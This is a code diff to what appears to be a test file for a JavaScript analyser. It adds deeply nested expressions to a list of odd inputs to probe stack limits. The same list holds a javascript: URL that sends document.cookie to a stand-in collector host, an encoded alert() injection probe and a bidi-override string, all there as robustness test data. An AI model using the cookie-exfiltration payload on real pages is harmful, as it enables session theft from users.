@@ -11,13 +11,17 @@ import { startEdgeAnalyser } from "./edge-analyser.ts";
 import type { RunningAnalyser } from "./running-analyser.ts";
 import { startWorkerAnalyser } from "./worker-analyser.ts";
 
-/** What no corpus has: texts that end in 'Not rated', an address, and signs outside of ASCII. */
+/** What no corpus has: texts that end in 'Not rated', an address, signs outside of ASCII, and depth. */
 const ODDITIES = [
 	"let = (",
 	"javascript:void(fetch('https://collector.example/?'+encodeURIComponent(document.cookie)))",
 	"javascript:%61%6c%65%72%74(1)",
 	"// \u202e\u2066 alert\nalert('日本語 🙂 \\ud800');",
-	`${"(".repeat(20_000)}1${")".repeat(20_000)}`,
+	// A browser's worker has half the stack: what is too deep must be too deep everywhere.
+	...[80, 160, 320, 20_000].map((depth) => `${"(".repeat(depth)}1${")".repeat(depth)}`),
+	...[50, 100, 160, 2_000].map((depth) => `${"(()=>{".repeat(depth)}f()${"})()".repeat(depth)}`),
+	...[1_000, 2_000].map((depth) => `x = 1${" + y".repeat(depth)}`),
+	...[1_000, 2_000].map((depth) => `if (a) {}${" else if (b) {}".repeat(depth)}`),
 ];
 
 /** As it crosses a wire. */
